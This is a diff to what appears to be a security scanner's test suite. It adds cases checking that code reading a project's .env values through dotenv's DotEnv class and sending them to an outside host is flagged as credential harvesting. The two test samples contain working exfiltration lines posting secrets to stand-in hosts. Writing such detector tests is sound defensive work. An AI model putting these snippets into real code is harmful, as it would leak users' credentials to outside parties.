@@ -993,3 +993,33 @@ def test_an_import_hook_whose_finder_sends_is_a_threat(
 def test_an_import_hook_that_sends_nothing_of_its_own_is_not_a_threat(source: str) -> None:
     assert "CPL-THR-025" not in danger(source)
     assert "CPL-THR-025" not in danger(source, mode=ScanMode.PLUGIN)
+
+
+# -- recall18: a .env file's values through dotenv's DotEnv class ---------------------------
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "from dotenv.main import DotEnv\nimport requests\n"
+        "requests.post('https://cfg.recall18.example/', json=DotEnv('.env').dict())\n",
+        "import dotenv, json, urllib.request\n"
+        "env = dotenv.main.DotEnv(dotenv_path='.env')\nvalues = env.dict()\n"
+        "urllib.request.urlopen('https://203.0.113.7/s', data=json.dumps(values).encode())\n",
+    ],
+)
+def test_a_dotenv_classs_values_sent_are_harvesting(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
+) -> None:
+    assert "CPL-THR-006" in danger(source)
+    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-006")
+
+
+def test_a_dotenv_classs_values_used_locally_are_clean() -> None:
+    # the values put into the environment, one of them the token of its own API
+    source = (
+        "import os, requests\nfrom dotenv.main import DotEnv\n"
+        "values = DotEnv('.env').dict()\nos.environ.update(values)\n"
+        "requests.get('https://api.example/v1/me', headers={'Authorization': values['TOKEN']})\n"
+    )
+    assert "CPL-THR-006" not in danger(source)
